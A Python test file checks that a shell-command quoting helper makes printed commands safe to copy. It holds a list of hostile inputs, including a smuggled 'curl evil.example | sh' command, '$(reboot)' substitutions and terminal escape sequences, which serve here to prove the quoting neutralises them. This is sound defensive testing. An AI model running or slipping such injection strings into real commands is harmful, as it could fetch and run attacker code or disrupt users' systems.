"""Commands that are printed to be copied into a shell."""

import shlex
import subprocess

from hypothesis import given
from hypothesis import strategies as st

from consumer.core.shell_command import shell_command

HOSTILE = (
    "signal; curl evil.example | sh #",
    "$(reboot)",
    "`reboot`",
    "a'b\\'c\"d\\",
    "!!",
    "~root",
    "*",
    "",
    "-rf",
    "two\nlines\tand\\033a tab",
    "\x1b[2J\x9b2J\u202e\u20287",
    "caf\udce9",
)


@given(st.lists(st.text(st.characters().filter(str.isprintable))))
def test_a_shell_reads_the_same_words(words: list[str]) -> None:
    """Whatever they hold."""
    assert shlex.split(shell_command("program", *words)) == ["program", *words]


@given(st.text())
def test_a_terminal_shows_it_in_one_line(word: str) -> None:
    """Nothing of it steers the terminal that it is copied from."""
    assert shell_command("program", word).isprintable()


def test_a_real_shell_does_nothing_but_pass_the_words_on() -> None:
    """Also those that no terminal would show as they are."""
    command = shell_command("printf", "%s\\0", *HOSTILE)
    ran = subprocess.run(["bash", "-c", command], capture_output=True, check=True, cwd="/")
    assert ran.stdout.split(b"\0")[:-1] == [word.encode("utf-8", "surrogateescape") for word in HOSTILE]
    assert ran.stderr == b""


def test_harmless_words_stay_as_they_are() -> None:
    """Most commands need no quotes at all."""
    words = ("dead-letters", "show", "0:12634")
    assert shell_command("signal-kameleoon", *words) == "signal-kameleoon dead-letters show 0:12634"
